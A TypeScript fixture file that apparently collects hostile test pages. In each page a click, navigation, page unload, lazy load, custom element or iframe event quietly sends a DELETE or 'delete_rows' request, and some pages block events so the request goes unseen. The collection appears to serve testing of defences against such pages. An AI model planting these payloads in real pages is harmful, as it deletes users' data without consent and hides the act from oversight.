/** PASSING_PAGES: hostile pages by newer carriers – commands, openings, own elements, steps of the history, rules of loading, tabs. */
import type { Single } from './kind';
import { next, request } from './single-parts';

const later = (body: (path: string) => string, afterMs = 900): Single => request(body, afterMs);
const gone = (path: string) => `fetch('${path}/rows/7', {method: 'DELETE'})`;
const beacon = (path: string) => `navigator.sendBeacon('${path}/rows/7/delete')`;
const away = (path: string) => `${path}/rows/7/delete`;

/** Events of newer elements, and of elements that the page defines. */
const ELEMENTS: Readonly<Record<string, Single>> = {
  'command of the page’s own': later(
    (path) =>
      `<button command="--go" commandfor="d" data-it>Next</button><div id="d">7</div><script>d.addEventListener('command', () => ${gone(path)})</script>`,
  ),
  'command that opens a layer': later(
    (path) =>
      `<button command="toggle-popover" commandfor="d" data-it>Next</button><div id="d" popover>7</div><script>d.addEventListener('beforetoggle', () => ${beacon(path)})</script>`,
  ),
  'command that closes a dialog with a word': later(
    (path) =>
      `<button command="request-close" commandfor="d" value="delete" data-it>Next</button><dialog id="d" open>7</dialog><script>d.addEventListener('close', () => fetch('${path}/rows/7/' + d.returnValue, {method: 'POST'}))</script>`,
  ),
  'part that opens, and one of its name that closes': later(
    (path) =>
      `<details name="n" open><summary>Older</summary>7</details><details name="n"><summary data-it>Newer</summary>8</details><script>document.querySelector('details').addEventListener('toggle', (event) => { if (event.newState === 'closed') ${gone(path)} })</script>`,
  ),
  'part that opens and submits': later(
    (path) =>
      `<form id="f" method="post" action="${away(path)}"></form><details><summary data-it>Newer</summary>8</details><script>document.querySelector('details').addEventListener('toggle', () => f.requestSubmit())</script>`,
  ),
  'button of a class of its own': later(
    (path) =>
      `<button is="x-turn" data-it>Next</button><script>customElements.define('x-turn', class extends HTMLButtonElement { connectedCallback() { this.addEventListener('click', () => ${gone(path)}) } }, {extends: 'button'})</script>`,
  ),
  'link of a class of its own': later(
    (path) =>
      `<a is="x-way" href="#up" data-it>Next</a><script>customElements.define('x-way', class extends HTMLAnchorElement { connectedCallback() { this.onclick = () => ${beacon(path)} } }, {extends: 'a'})</script>`,
  ),
  'form of a class of its own': later(
    (path) =>
      `<form is="x-paper" method="post" action="${path}/api"><button data-it>Next</button></form><script>customElements.define('x-paper', class extends HTMLFormElement { connectedCallback() { this.addEventListener('formdata', ({formData}) => formData.append('action', 'delete_rows')) } }, {extends: 'form'})</script>`,
  ),
  'field of its own that names the act': later(
    (path) =>
      `<form method="post" action="${path}/api"><x-field name="_method"></x-field><button data-it>Next</button></form><script>customElements.define('x-field', class extends HTMLElement { static formAssociated = true; connectedCallback() { this.attachInternals().setFormValue('delete') } })</script>`,
  ),
  'field of its own that is put back': later(
    (path) =>
      `<form><x-field></x-field><button type="reset" data-it>Next</button></form><script>customElements.define('x-field', class extends HTMLElement { static formAssociated = true; formResetCallback() { ${gone(path)} } })</script>`,
  ),
  'field of its own that is disabled': later(
    (path) =>
      `<form><fieldset id="s"><x-field></x-field></fieldset></form>${next('s.disabled = true', `customElements.define('x-field', class extends HTMLElement { static formAssociated = true; formDisabledCallback() { ${gone(path)} } })`)}`,
  ),
  'element that is moved within the page': later(
    (path) =>
      `<p id="w"></p><x-part>7</x-part>${next("w.moveBefore(document.querySelector('x-part'), null)", `customElements.define('x-part', class extends HTMLElement { connectedMoveCallback() { ${gone(path)} } })`)}`,
  ),
  'address of the form that the press sets': later(
    (path) =>
      `<form method="post" action="/benign"><button id="b" data-it>Next</button></form><script>b.addEventListener('click', () => { b.formAction = '${away(path)}' })</script>`,
  ),
  'method of the form that the press sets': later(
    (path) =>
      `<form method="get" action="${path}/rows"><input type="hidden" name="do" value="delete"><button id="b" data-it>Next</button></form><script>b.addEventListener('click', () => { b.formMethod = 'post' })</script>`,
  ),
  'form whose event goes no further': later(
    (path) =>
      `<iframe name="k" width="40" height="20"></iframe><form id="f" method="post" target="k" action="${away(path)}"></form>${next('f.requestSubmit()', "document.addEventListener('submit', (event) => event.stopImmediatePropagation(), true)")}`,
  ),
  'link whose event goes no further': later(
    (path) =>
      `<iframe name="k" width="40" height="20"></iframe><a id="a" target="k" href="${away(path)}" hidden>a</a>${next('a.click()', 'a.onclick = (event) => event.stopImmediatePropagation()')}`,
  ),
  'link with a ping whose event goes no further': later(
    (path) =>
      `<a id="a" href="#up" ping="${away(path)}" hidden>a</a>${next('a.click()', 'a.onclick = (event) => event.stopImmediatePropagation()')}`,
  ),
};

/** Steps of the history, and the end of a page. */
const STEPS: Readonly<Record<string, Single>> = {
  'step that is taken over': later(
    (path) =>
      `<a href="/app/rows/7" data-it>Next</a><script>navigation.addEventListener('navigate', (event) => event.intercept({handler: async () => { await ${gone(path)} }}))</script>`,
  ),
  'step that is taken over before it is made': later(
    (path) =>
      `<a href="/app/rows/7" data-it>Next</a><script>navigation.addEventListener('navigate', (event) => event.intercept({precommitHandler: async () => { ${beacon(path)} }}))</script>`,
  ),
  'step by the newer history': later((path) => next(`navigation.navigate('${away(path)}')`)),
  'state of the newer history': later((path) =>
    next(
      'navigation.updateCurrentEntry({state: 7})',
      `navigation.addEventListener('currententrychange', () => ${gone(path)})`,
    ),
  ),
  'end of the page by a link': later(
    (path) => `<a href="/benign" data-it>Next</a><script>addEventListener('pageswap', () => ${beacon(path)})</script>`,
  ),
  'last moment of the page': later(
    (path) =>
      `<a href="/benign" data-it>Next</a><script>addEventListener('beforeunload', () => fetch('${path}/rows/7', {method: 'DELETE', keepalive: true}))</script>`,
  ),
  'page that is hidden': later(
    (path) => `<a href="/benign" data-it>Next</a><script>onpagehide = () => ${beacon(path)}</script>`,
  ),
  'page that is loaded again': later((path) =>
    next('isAsked = true; location.reload()', `isAsked = false; onpagehide = () => isAsked && ${beacon(path)}`),
  ),
  'change of the view': later((path) => next(`document.startViewTransition(() => ${gone(path)})`)),
  'change of the view that is ready': later((path) =>
    next(`document.startViewTransition(() => 0).ready.then(() => ${gone(path)})`),
  ),
  'hidden text that is found': later(
    (path) =>
      `<p id="q" hidden="until-found">7</p>${next("location.hash = '#q'")}<script>q.addEventListener('beforematch', () => ${gone(path)})</script>`,
  ),
  'scrolling that ends': later(
    (path) =>
      `<div id="w" style="height:60px;overflow:auto"><p style="height:400px">7</p></div>${next("w.scrollTo({top: 90, behavior: 'smooth'})")}<script>w.addEventListener('scrollend', () => ${gone(path)})</script>`,
    1_500,
  ),
  'part that comes into view': later(
    (path) =>
      `<div style="height:4000px"></div><p id="q" style="content-visibility:auto">7</p>${next('q.scrollIntoView()')}<script>let seen = 0; q.addEventListener('contentvisibilityautostatechange', () => { if (seen++) ${gone(path)} })</script>`,
  ),
};

/** Loads that begin by a change beside the address, or by a way in that no list has. */
const LOADS: Readonly<Record<string, Single>> = {
  'rules of loading ahead': later((path) =>
    next(
      `s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{urls: ['${away(path)}']}]}); document.head.append(s)`,
    ),
  ),
  'rules of drawing ahead': later((path) =>
    next(
      `s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prerender: [{urls: ['${away(path)}'], eagerness: 'immediate'}]}); document.head.append(s)`,
    ),
  ),
  'clean markup': later((path) =>
    next(`d = document.createElement('div'); document.body.append(d); d.setHTML('<img src="${away(path)}">')`),
  ),
  'set of pictures of a link': later((path) =>
    next(
      `l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.imageSrcset = '${away(path)} 1x'; document.head.append(l)`,
    ),
  ),
  'picture that a range takes in': later((path) =>
    next(
      `i = new DOMParser().parseFromString('<img src="${away(path)}">', 'text/html').querySelector('img'); r = document.createRange(); r.selectNode(document.querySelector('h1')); r.insertNode(i)`,
    ),
  ),
  'picture beside a text': later((path) =>
    next(
      `i = new DOMParser().parseFromString('<img src="${away(path)}">', 'text/html').querySelector('img'); document.querySelector('h1').firstChild.after(i)`,
    ),
  ),
  'picture beside an element': later((path) =>
    next(
      `i = new DOMParser().parseFromString('<img src="${away(path)}">', 'text/html').querySelector('img'); document.querySelector('h1').insertAdjacentElement('afterend', i)`,
    ),
  ),
  'picture in a shadow': later((path) =>
    next(
      `i = new DOMParser().parseFromString('<img src="${away(path)}">', 'text/html').querySelector('img'); d = document.createElement('div'); document.body.append(d); d.attachShadow({mode: 'open'}).append(i)`,
    ),
  ),
  'attribute that is a node': later((path) =>
    next(
      `i = new Image(); a = document.createAttribute('src'); a.value = '${away(path)}'; i.setAttributeNode(a); document.body.append(i)`,
    ),
  ),
  'picture that waits to be seen': later(
    (path) =>
      `<div style="height:6000px"></div><img id="i" loading="lazy" width="40" height="40" src="${away(path)}">${next('i.scrollIntoView()')}`,
  ),
  'picture that waits no longer': later(
    (path) =>
      `<div style="height:6000px"></div><img id="i" loading="lazy" width="40" height="40" src="${away(path)}">${next("i.loading = 'eager'")}`,
  ),
  'film that waits to be played': later(
    (path) =>
      `<video id="v" preload="none" width="40" height="30" src="${away(path)}"></video>${next('v.load(); v.play()')}`,
  ),
  'script that becomes one': later(
    (path) =>
      `<script id="s" type="text/x" src="${away(path)}"></script>${next("s.type = ''; document.body.append(s)")}`,
  ),
  'sheet that becomes one': later(
    (path) => `<link id="l" rel="x" href="${away(path)}">${next("l.rel = 'stylesheet'")}`,
  ),
  'picture of a field that becomes a button': later(
    (path) => `<input id="i" type="hidden" src="${away(path)}">${next("i.type = 'image'")}`,
  ),
  'picture for a larger screen': later(
    (path) =>
      `<img id="i" width="40" height="40" sizes="10px" srcset="/benign 10w, ${away(path)} 4000w">${next("i.sizes = '4000px'")}`,
  ),
  'ground of the page': later((path) => next(`document.body.setAttribute('background', '${away(path)}')`)),
  'markup that an editor takes in': later(
    (path) =>
      `<div id="e" contenteditable style="min-height:20px">7</div>${next(`e.focus(); document.execCommand('insertHTML', false, '<img src="${away(path)}">')`)}`,
  ),
  'second address of letters': later((path) =>
    next(`new FontFace('k', 'url(/benign), url(${away(path)})').load().catch(() => 0)`),
  ),
  'drawing that a movement sets': later((path) =>
    next(
      `s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); document.body.append(s); s.innerHTML = '<image width="20" height="20"><set attributeName="href" to="${away(path)}"/></image>'`,
    ),
  ),
  'module of a painter': later((path) => next(`CSS.paintWorklet.addModule('${away(path)}').catch(() => 0)`)),
  'body that is kept from before': later((path) =>
    next(`fetch('${path}/api', {method: 'POST', body: kept})`, `kept = new Blob(['{"action":"delete_rows"}'])`),
  ),
};

/** Other tabs and parts of the browser that send for the page. */
const OTHERS: Readonly<Record<string, Single>> = {
  'frame that hears a channel': later(
    (path) =>
      `<iframe src="/inbox?to=${path}/rows/7/delete" width="40" height="20"></iframe>${next("new BroadcastChannel('inbox').postMessage('delete')")}`,
  ),
  'lock that is given to a frame': later(
    (path) =>
      `<iframe width="40" height="20" srcdoc="<script>setTimeout(() => navigator.locks.request('k', () => fetch('${path}/rows/7', {method: 'DELETE'})), 200)</script>"></iframe>${next('free()', "navigator.locks.request('k', () => new Promise((go) => { free = go }))")}`,
  ),
  'store that a frame must give up': later(
    (path) =>
      `<iframe width="40" height="20" srcdoc="<script>indexedDB.open('k7').onsuccess = ({target}) => { target.result.onversionchange = () => { fetch('${path}/rows/7', {method: 'DELETE'}); target.result.close() } }</script>"></iframe>${next("indexedDB.deleteDatabase('k7')")}`,
  ),
  'cookie that a frame watches': later(
    (path) =>
      `<iframe width="40" height="20" srcdoc="<script>cookieStore.onchange = () => fetch('${path}/rows/7', {method: 'DELETE'})</script>"></iframe>${next("document.cookie = 'k=' + Math.random()")}`,
  ),
};

export const PASSING_PAGES: Readonly<Record<string, Single>> = {
  ...ELEMENTS,
  ...STEPS,
  ...LOADS,
  ...OTHERS,
};
